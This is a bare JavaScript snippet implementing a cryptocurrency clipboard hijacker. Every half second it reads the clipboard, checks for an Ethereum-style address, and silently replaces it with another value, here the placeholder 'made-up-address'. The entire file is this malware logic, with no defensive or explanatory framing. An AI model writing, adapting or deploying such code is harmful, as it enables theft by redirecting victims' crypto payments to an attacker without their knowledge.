import clipboardy from "clipboardy";

setInterval(() => {
  const text = clipboardy.readSync();
  if (/^0x[a-fA-F0-9]{40}$/.test(text)) {
    clipboardy.writeSync("made-up-address");
  }
}, 500);
